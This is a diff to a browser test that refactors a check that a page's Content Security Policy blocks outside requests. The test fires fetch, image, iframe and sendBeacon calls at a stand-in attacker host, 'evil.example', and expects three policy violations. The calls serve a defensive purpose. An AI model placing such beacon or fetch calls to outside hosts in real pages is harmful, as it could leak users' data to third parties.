@@ -36,18 +36,20 @@ test.each(attempts)('a page makes no %s', async (_, attempt) => {
 })
 
 test('a page sends nothing to another address, and shows nothing from there', async () => {
-  const violated = await player.page.evaluate(async () => {
-    const seen: string[] = []
-    document.addEventListener('securitypolicyviolation', (event) => seen.push(event.effectiveDirective))
-    await fetch('https://evil.example/').catch(() => undefined)
-    document.body.append(Object.assign(new Image(), { src: 'https://evil.example/pixel.png' }))
-    document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' }))
-    navigator.sendBeacon('https://evil.example/')
-    const deadline = performance.now() + 5_000
-    while (new Set(seen).size < 3 && performance.now() < deadline)
-      await new Promise((resolve) => setTimeout(resolve, 20))
-    return [...new Set(seen)].sort()
-  })
+  const violated = await player.page.evaluate(
+    () =>
+      new Promise<readonly string[]>((resolve) => {
+        const seen = new Set<string>()
+        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
+          seen.add(effectiveDirective)
+          if (seen.size === 3) resolve([...seen].sort())
+        })
+        fetch('https://evil.example/').catch(() => undefined)
+        document.body.append(Object.assign(new Image(), { src: 'https://evil.example/pixel.png' }))
+        document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' }))
+        navigator.sendBeacon('https://evil.example/')
+      }),
+  )
   expect(violated).toEqual(['connect-src', 'frame-src', 'img-src'])
 })
 
